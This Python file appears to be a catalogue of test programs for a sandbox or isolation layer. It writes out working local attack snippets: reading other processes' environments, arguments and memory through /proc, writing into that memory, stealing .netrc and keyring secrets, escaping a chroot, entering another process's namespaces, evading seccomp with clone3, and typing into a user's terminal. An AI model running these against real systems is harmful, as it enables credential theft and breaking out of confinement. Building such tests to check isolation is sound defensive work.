"""Programs that go by way of the kernel: /proc, what they inherit, rights, mounts and devices."""

from __future__ import annotations

from .program import Program

PROC, ENVIRONMENT, RIGHTS, DEVICES = "/proc", "environment", "capabilities and mounts", "devices"

PROGRAMS = [
    Program(
        "arguments_of_another",
        PROC,
        "reads what another program was called with",
        """
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            loot(open(f'/proc/{pid}/cmdline', 'rb').read())
        except OSError:
            pass
""",
        ("secret_read",),
        layers=("pid",),
        partial=False,
    ),
    Program(
        "environment_of_another",
        PROC,
        "reads the keys in the environment of another program",
        "loot(open(f\"/proc/{F['pid']}/environ\", 'rb').read())\n",
        ("secret_read",),
    ),
    Program(
        "memory_by_file",
        PROC,
        "reads the stack of another program by its memory file",
        """
stack = next(line for line in open(f"/proc/{F['pid']}/maps") if '[stack]' in line)
start, end = (int(word, 16) for word in stack.split()[0].split('-'))
there = os.open(f"/proc/{F['pid']}/mem", os.O_RDONLY)
loot(os.pread(there, end - start, start))
""",
        ("secret_read",),
    ),
    Program(
        "write_memory_by_file",
        PROC,
        "changes the environment of another program by its memory file",
        """
stack = next(line for line in open(f"/proc/{F['pid']}/maps") if '[stack]' in line)
start, end = (int(word, 16) for word in stack.split()[0].split('-'))
there = os.open(f"/proc/{F['pid']}/mem", os.O_RDWR)
at = os.pread(there, end - start, start).rindex(b'API_KEY')
os.pwrite(there, b'X', start + at)
""",
        ("sentinel_harmed",),
    ),
    Program(
        "folder_of_another",
        PROC,
        "walks into the folder in which another program stands",
        "loot(open(f\"/proc/{F['pid']}/cwd/notes.txt\", 'rb').read())\n",
        ("secret_read",),
    ),
    Program(
        "root_of_another",
        PROC,
        "reaches the files by the root of another program",
        "loot(open(f\"/proc/{F['pid']}/root{F['secret']}\", 'rb').read())\n",
        ("secret_read",),
    ),
    Program(
        "open_file_of_another",
        PROC,
        "opens a deleted file again that another program has open",
        "loot(open(f\"/proc/{F['pid']}/fd/{F['held_fd']}\", 'rb').read())\n",
        ("secret_read",),
    ),
    Program(
        "first_victim",
        PROC,
        "makes another program the first that dies when memory runs short",
        "open(f\"/proc/{F['pid']}/oom_score_adj\", 'w').write('1000')\n",
        ("sentinel_harmed",),
    ),
    Program(
        "names_of_sockets",
        PROC,
        "reads in a list of the kernel which services listen here",
        "loot(open('/proc/net/unix', 'rb').read())\n",
        ("secret_read",),
        layers=("net",),
        partial=False,
    ),
    Program(
        "environment_of_its_own",
        ENVIRONMENT,
        "keeps its own environment, with the keys in it",
        "loot(repr(dict(os.environ)))\n",
        ("secret_read",),
    ),
    Program(
        "environment_of_the_parents",
        ENVIRONMENT,
        "reads the environment of all that it descends from",
        """
pid = os.getpid()
while pid > 1:
    try:
        loot(open(f'/proc/{pid}/environ', 'rb').read())
    except OSError:
        pass
    pid = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])
""",
        ("secret_read",),
    ),
    Program(
        "password_file",
        ENVIRONMENT,
        "looks for passwords in the user's home",
        "loot(open(os.path.join(F['home'], '.netrc'), 'rb').read())\n",
        ("secret_read",),
        layers=("partial:landlock",),
    ),
    Program(
        "keyring",
        ENVIRONMENT,
        "reads a key in the keyring that every process of a session inherits",
        """
key = call(libc.syscall(number(249, 218), b'user', F['key_name'].encode(), None, -3))
there = ctypes.create_string_buffer(200)
call(libc.syscall(number(250, 219), 11, key, there, 200))
loot(there.raw)
""",
        ("secret_read",),
        layers=("seccomp",),
    ),
    Program(
        "plant_a_key",
        ENVIRONMENT,
        "replaces a key in the keyring by one of its own, which the user will then use",
        """
call(libc.syscall(number(248, 217), b'user', F['key_name'].encode(), b'mine', 4, -3))
held()
""",
        ("held",),
    ),
    Program(
        "new_user_namespace",
        RIGHTS,
        "becomes root in a namespace of its own, from where the kernel can be attacked",
        "call(libc.unshare(0x10000000))\nheld()\n",
        ("held",),
        layers=("seccomp",),
    ),
    Program(
        "clone_into_namespaces",
        RIGHTS,
        "lets a child be born in new namespaces, without a call to leave the old ones",
        """
pid = call(libc.syscall(number(56, 220), 0x10000000 | 17, 0, 0, 0, 0))
if pid == 0:
    held()
    os._exit(0)
os.waitpid(pid, 0)
""",
        ("held",),
    ),
    Program(
        "clone_by_structure",
        RIGHTS,
        "asks for the same by the newer call, whose flags no filter can see",
        """
import struct
told = ctypes.create_string_buffer(struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0))
pid = call(libc.syscall(435, told, 88))
if pid == 0:
    held()
    os._exit(0)
os.waitpid(pid, 0)
""",
        ("held",),
    ),
    Program(
        "mount_over",
        RIGHTS,
        "mounts an empty folder over the user's",
        "call(libc.mount(b'x', F['outside'].encode(), b'tmpfs', 0, b'size=1m'))\ntime.sleep(0.1)\n",
        ("mounted",),
        root=True,
    ),
    Program(
        "mode_ignored",
        RIGHTS,
        "reads a file that its mode keeps for root, in a folder that it may read",
        "loot(open(F['reads'] + '/closed', 'rb').read())\n",
        ("secret_read",),
        layers=("uid", "capabilities"),
        root=True,
        partial=False,
    ),
    Program(
        "become_root",
        RIGHTS,
        "becomes root again, and reads what is root's",
        "os.setresuid(0, 0, 0)\nloot(open(F['reads'] + '/closed', 'rb').read())\n",
        ("secret_read",),
        layers=("capabilities",),
        root=True,
        partial=False,
    ),
    Program(
        "open_by_handle",
        RIGHTS,
        "opens a file by its number on the disk, whatever the folders allow",
        """
import struct
told = F['handle']
data = bytes.fromhex(told['bytes'])
there = ctypes.create_string_buffer(struct.pack('<Ii', len(data), told['type']) + data)
fd = call(libc.open_by_handle_at(os.open('.', os.O_RDONLY), there, 0))
loot(os.read(fd, 1000))
""",
        ("secret_read",),
        root=True,
    ),
    Program(
        "leave_by_chroot",
        RIGHTS,
        "steps out of its root by making a smaller one and standing outside of it",
        """
os.mkdir('room')
mine = open('loot', 'wb')
os.chroot('room')
for _ in range(60):
    os.chdir('..')
os.chroot('.')
mine.write(open(F['secret'], 'rb').read())
""",
        ("secret_read",),
        root=True,
    ),
    Program(
        "namespace_of_another",
        RIGHTS,
        "enters the mounts of another process",
        """
mine = open('loot', 'wb')
fd = os.open(f"/proc/{F['pid']}/ns/mnt", os.O_RDONLY)
call(libc.setns(fd, 0x20000))
mine.write(open(F['secret'], 'rb').read())
""",
        ("secret_read",),
        root=True,
    ),
    Program(
        "before_all_others",
        RIGHTS,
        "runs in real time, before every other program",
        "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))\nheld()\n",
        ("held",),
        root=True,
    ),
    Program(
        "code_in_the_kernel",
        RIGHTS,
        "loads a program into the kernel",
        """
import struct
code = ctypes.create_string_buffer(struct.pack('<BBhi', 0xb7, 0, 0, 0) + struct.pack('<BBhi', 0x95, 0, 0, 0))
words = ctypes.create_string_buffer(b'GPL')
told = struct.pack('<IIQQ', 1, 2, ctypes.addressof(code), ctypes.addressof(words))
attributes = ctypes.create_string_buffer(told, 128)
call(libc.syscall(number(321, 280), 5, attributes, 48))
held()
""",
        ("held",),
        root=True,
    ),
    Program(
        "terminal",
        DEVICES,
        "types on the user's terminal",
        "os.write(os.open(F['terminal'], os.O_WRONLY | os.O_NOCTTY), F['plant'].encode())\n",
        ("heard",),
    ),
    Program(
        "make_a_device",
        DEVICES,
        "makes a device among its results",
        "os.mknod('result', 0o20666, os.makedev(1, 8))\n",
        ("collection_unsafe",),
        root=True,
    ),
    Program(
        "device_in_reach",
        DEVICES,
        "opens a device that lies in a folder that it may read",
        "os.read(os.open(F['reads'] + '/device', os.O_RDONLY), 8)\nheld()\n",
        ("held",),
        root=True,
        partial=False,
    ),
    Program(
        "kernel_log",
        DEVICES,
        "opens the kernel's log, or the device by which users mount",
        """
for name in ('/dev/kmsg', '/dev/fuse', '/dev/net/tun', '/dev/kvm', '/dev/loop-control'):
    try:
        os.close(os.open(name, os.O_RDONLY | os.O_NONBLOCK))
        held()
    except OSError:
        pass
""",
        ("held",),
        root=True,
    ),
]
